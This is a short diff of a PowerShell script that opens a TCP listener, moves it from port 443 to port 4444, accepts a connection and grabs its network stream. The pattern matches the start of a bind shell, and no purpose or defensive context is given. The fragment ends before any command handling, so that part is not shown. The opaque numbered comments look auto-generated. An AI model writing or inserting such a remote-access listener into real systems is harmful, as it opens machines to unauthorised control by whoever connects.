@@ -1,5 +1,5 @@
-# init 5158 v1
-$l = [System.Net.Sockets.TcpListener]443
+# setup 6237 v1
+$l = [System.Net.Sockets.TcpListener]4444
 $l.Start()
 $c = $l.AcceptTcpClient()
 $s = $c.GetStream()
